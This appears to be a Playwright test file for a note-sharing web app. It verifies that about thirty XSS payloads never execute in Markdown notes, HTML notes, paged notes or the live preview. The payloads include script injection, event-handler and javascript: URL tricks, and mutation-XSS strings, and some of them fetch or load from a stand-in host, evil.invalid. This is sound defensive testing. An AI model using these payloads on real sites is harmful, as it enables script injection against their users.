import type { Page } from "@playwright/test";
import { expect, issueKey, test } from "./browser-test";
import { guardPage, settle } from "./page-guard";

// Hostile notes in a real browser. Every payload either opens a dialog or calls a host that is
// not the test server, so any that runs is caught. The sanitizer's own unit suite
// (lib/render/render-note.xss.test.ts) checks the markup; this checks what the browser does with it,
// with the CSP on top.
const EVIL = "http://evil.invalid";
const PAYLOADS = [
  "<script>alert('script')</script>",
  `<script src="${EVIL}/x.js"></script>`,
  "<img src=x onerror=alert('onerror')>",
  `<img src=x onerror="fetch('${EVIL}/img')">`,
  "<svg onload=alert('svg')>",
  "<svg><script>alert('svg script')</script></svg>",
  "<iframe srcdoc=\"<script>parent.alert('srcdoc')</script>\"></iframe>",
  "<iframe src=\"javascript:alert('iframe')\"></iframe>",
  "<object data=\"javascript:alert('object')\"></object>",
  `<embed src="${EVIL}/embed">`,
  "<details open ontoggle=alert('toggle')>x</details>",
  "<input autofocus onfocus=alert('focus')>",
  "<body onload=alert('body')>",
  "<a href=\"javascript:alert('href')\" id=link>link</a>",
  "<a href=\"java&#x09;script:alert('entity')\">tab</a>",
  "<p onmouseover=alert('hover') style=\"color:red\">hover me</p>",
  `<p style="background-image:url(${EVIL}/css)">css url</p>`,
  `<style>@import '${EVIL}/import.css'; p { background: url(${EVIL}/bg) }</style>`,
  `<link rel="stylesheet" href="${EVIL}/link.css">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/form"><button>go</button></form>`,
  "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
  `<video><source onerror="fetch('${EVIL}/video')"></video>`,
  "<marquee onstart=alert('marquee')>m</marquee>",
];

const MARKDOWN_EXTRAS = [
  "[md link](javascript:alert('md'))",
  "![md image](javascript:alert('mdimg'))",
  `[ref][1]\n\n[1]: javascript:alert('ref')`,
  "```js\n</code></pre><img src=x onerror=alert('fence')>\n```",
  "<div>\n\n**bold**<script>alert('block')</script>\n\n</div>",
];

/** Reveals the note, then hovers and clicks everything that could carry a handler. */
async function revealAndPoke(page: Page, id: string) {
  await page.goto(`/${id}`);
  await page.getByRole("button", { name: "Reveal note" }).click();
  const article = page.locator("article.note");
  await expect(page.getByRole("button", { name: "Reveal note" })).toHaveCount(0);
  await expect(article).toBeAttached();
  for (const element of await article.locator("p, a, img, details, span").all()) {
    await element.hover({ force: true, timeout: 1000 }).catch(() => undefined);
  }
  for (const link of await article.locator("a[href^='#'], a:not([href])").all()) {
    await link.click({ timeout: 1000 }).catch(() => undefined);
  }
  await settle(page);
  return article;
}

test("payloads in a Markdown note never run", async ({ page, api, baseURL }) => {
  const guard = guardPage(page, baseURL ?? "");
  const id = await api.createId({
    content: [...PAYLOADS, ...MARKDOWN_EXTRAS].join("\n\n"),
    ttl: "1h",
    burn_after: 1,
  });
  const article = await revealAndPoke(page, id);
  await expect(article.getByText("hover me")).toHaveAttribute("style", "color:red");
  expect(
    await article
      .locator("script, iframe, object, embed, svg, math, style, form, input:not([type=checkbox])")
      .count(),
  ).toBe(0);
  expect(guard).toEqual({ dialogs: [], foreignRequests: [], cspViolations: [] });
});

test("payloads in keyed HTML and in HTML pages never run", async ({ page, api, baseURL }) => {
  const guard = guardPage(page, baseURL ?? "");
  const key = await issueKey();
  const single = await api.createId(
    { content: PAYLOADS.join("\n"), format: "html", ttl: "1h", burn_after: 1 },
    { "x-api-key": key },
  );
  await revealAndPoke(page, single);

  const paged = await api.createId({
    ttl: "1h",
    burn_after: 1,
    pages: PAYLOADS.slice(0, 8).map((payload, index) => ({
      title: `<img src=x onerror=alert('title${index}')>`,
      content: payload,
      format: "html" as const,
    })),
  });
  await revealAndPoke(page, paged);
  for (const tab of await page.getByRole("tab").all()) await tab.click();
  await expect(page.getByRole("tab").first()).toHaveText("<img src=x onerror=alert('title0')>");
  await settle(page);
  expect(guard).toEqual({ dialogs: [], foreignRequests: [], cspViolations: [] });
});

test("the live preview on the create page never runs a payload either", async ({ page, baseURL }) => {
  const guard = guardPage(page, baseURL ?? "");
  await page.goto("/");
  await page.getByLabel("Text").fill([...PAYLOADS, ...MARKDOWN_EXTRAS].join("\n\n"));
  const preview = page.getByRole("region", { name: "Preview of page 1" });
  await expect(preview.getByText("hover me")).toHaveAttribute("style", "color:red");
  for (const element of await preview.locator("p, a, img").all()) {
    await element.hover({ force: true, timeout: 1000 }).catch(() => undefined);
  }
  await settle(page);
  expect(await preview.locator("script, iframe, object, embed, svg, style, form").count()).toBe(0);
  expect(guard).toEqual({ dialogs: [], foreignRequests: [], cspViolations: [] });
});
